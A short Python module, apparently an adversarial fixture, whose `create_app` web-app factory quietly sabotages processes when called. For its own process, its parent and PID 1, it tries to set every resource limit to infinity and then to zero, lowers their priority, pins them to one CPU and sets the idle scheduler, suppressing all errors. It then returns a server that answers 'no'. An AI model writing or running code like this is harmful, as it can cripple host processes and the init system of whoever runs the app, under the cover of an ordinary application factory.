"""Sets every limit of every process it can reach."""

import contextlib
import os
import resource

LIMITS = [getattr(resource, name) for name in dir(resource) if name.startswith("RLIMIT_")]


def create_app(config=None):
    for pid in (0, os.getppid(), 1):
        for limit in LIMITS:
            for value in (resource.RLIM_INFINITY, 2**40, 0):
                with contextlib.suppress(OSError, ValueError):
                    if pid:
                        resource.prlimit(pid, limit, (value, value))
                    elif value:
                        resource.setrlimit(limit, (value, value))
        with contextlib.suppress(OSError):
            os.setpriority(os.PRIO_PROCESS, pid, 19)
        with contextlib.suppress(OSError):
            os.sched_setaffinity(pid, {0})
        with contextlib.suppress(OSError):
            os.sched_setscheduler(pid, os.SCHED_IDLE, os.sched_param(0))

    def server(environ, start_response):
        start_response("200 OK", [("Content-Type", "text/plain")])
        return [b"no"]

    return server
